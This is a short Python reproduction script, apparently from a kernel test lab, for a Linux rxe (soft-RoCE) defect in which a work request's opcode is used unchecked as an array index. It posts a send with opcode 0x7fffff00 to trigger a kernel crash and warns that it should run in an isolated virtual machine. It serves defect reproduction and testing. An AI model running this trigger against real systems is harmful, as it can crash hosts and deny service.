#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""The kernel uses the opcode of a work request as an array index without a check.

rxe_requester reads the opcode from the ring, and wr_opcode_mask (rxe_loc.h) uses it as an index into
rxe_wr_opcode_info.

It crashes the kernel, so run it in a virtual machine of its own. Needs ends.py beside it, pyverbs, and two rxe
devices:
    tools/lab run -- python3 tools/reproductions/opcode-index.py rxe0 10.9.0.1 rxe1 10.9.0.2 veth1
The exit code is 0 if the defect is not present; otherwise the program does not end."""
import enums as e
from ends import pair, run
from pyverbs.wr import SendWR


def main(left, left_address, right, right_address, _interface):
    requester, _responder = pair(left, left_address, right, right_address)
    print('posting opcode 0x7fffff00', flush=True)
    requester.qp.post_send(SendWR(wr_id=1, opcode=0x7fffff00, num_sge=1, sg=requester.sge(0), send_flags=e.IBV_SEND_SIGNALED))
    requester.completions(1, 10)
    return 0


run(main, __doc__)
